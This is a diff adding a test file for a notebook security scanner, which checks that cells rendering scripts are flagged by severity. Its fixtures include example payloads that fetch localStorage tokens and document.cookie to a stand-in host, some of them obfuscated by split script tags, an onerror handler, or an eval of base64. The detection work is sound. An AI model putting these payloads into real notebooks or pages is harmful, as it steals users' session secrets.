@@ -1,0 +1,90 @@
+// What cells show in the browser of whoever runs them.
+import { describe, expect, it } from 'vitest';
+import { spokenPages } from '../../../src/format/notebook/spoken-pages.ts';
+import type { Finding } from '../../../src/core/finding.ts';
+import { inspectBytes } from '../../support/inspect.ts';
+
+const notebook = (source: string): string =>
+  JSON.stringify(
+    {
+      cells: [
+        {
+          cell_type: 'code',
+          execution_count: null,
+          metadata: {},
+          outputs: [],
+          source: source.split(/(?<=\n)/),
+        },
+      ],
+      metadata: {},
+      nbformat: 4,
+      nbformat_minor: 5,
+    },
+    null,
+    1,
+  );
+
+async function told(source: string): Promise<readonly Finding[]> {
+  const { findings } = await inspectBytes(Buffer.from(notebook(source)), 'a.ipynb');
+  return findings.filter(({ rule }) => rule.startsWith('NOTEBOOK-') || rule.startsWith('CODE-'));
+}
+
+const SENT = "fetch('https://c.example.invalid/?' + localStorage.getItem('t'))";
+const PAGE = 'NOTEBOOK-CELL-PAGE';
+
+describe('a page or a script that a cell shows', () => {
+  it.each([
+    [`display(HTML("<script>${SENT}</script>"))`, 'HIGH'],
+    [`IPython.display.HTML(data='''\n<script>\n${SENT}\n</script>''')`, 'HIGH'],
+    [`HTML("<scr" "ipt>${SENT}</scr"\n     "ipt>")`, 'HIGH'],
+    [`HTML('<img src=x onerror="${SENT.replaceAll("'", '&quot;')}">')`, 'HIGH'],
+    [`Javascript(f"${SENT}")`, 'HIGH'],
+    [`%%javascript\n${SENT}`, 'HIGH'],
+    [`%%html\n<script>${SENT}</script>`, 'HIGH'],
+    [`Javascript("fetch('https://c.example.invalid/?' + document.cookie)")`, 'HIGH'],
+    [`Javascript("fetch(\\"https://c.example.invalid/?\\" + document.cookie)")`, 'HIGH'],
+    ['HTML("<script src=\\"https://c.example.invalid/a.js\\"></script>")', 'LOW'],
+    [`Javascript('IPython.notebook.kernel.execute("name = 1")')`, 'LOW'],
+  ])('is judged by what it reaches: %s', async (source, severity) => {
+    const found = (await told(source)).filter(({ rule }) => rule === PAGE);
+    expect(found.map((each) => each.severity)).toContain(severity);
+  });
+
+  it('goes to the rules for programs as well', async () => {
+    const found = await told(
+      `HTML("""<p>1</p>\n<script>\neval(atob("YWxlcnQoMSk7YWxlcnQoMik="))</script>""")`,
+    );
+    expect(found).toMatchObject([{ rule: 'CODE-DECODE-EXECUTE', location: { cell: 1 } }]);
+  });
+
+  it('is told on its line', async () => {
+    const source = `a = 1\nHTML("""<p>1</p>\n<script>\ndraw()\n${SENT}\n</script>""")\n`;
+    const line =
+      notebook(source)
+        .split('\n')
+        .findIndex((each) => each.includes('fetch')) + 1;
+    expect((await told(source)).map(({ location }) => location.line)).toEqual([line]);
+  });
+
+  it.each([
+    'HTML("<style>.container { width: 100% }</style>")',
+    `HTML("<script src='https://cdn.plot.ly/plotly-2.35.2.min.js'></script>")`,
+    `Javascript("localStorage.setItem('a', 'b'); fetch('/api/status')")`,
+    'HTML(filename="a.html")',
+    'HTML(df.to_html())',
+    `print("HTML('<p>')")`,
+    '%%javascript\ndocument.title = document.cookie',
+  ])('may be anything else: %s', async (source) => {
+    expect((await told(source)).filter(({ severity }) => severity !== 'LOW' && severity !== 'INFO')).toEqual(
+      [],
+    );
+  });
+
+  it('is read in time linear in the program', () => {
+    const begun = performance.now();
+    spokenPages('HTML("'.repeat(100_000));
+    spokenPages(`HTML(${'"a" '.repeat(200_000)}`);
+    spokenPages(`HTML("${'\\'.repeat(400_000)}`);
+    expect(performance.now() - begun).toBeLessThan(2000);
+  });
+});
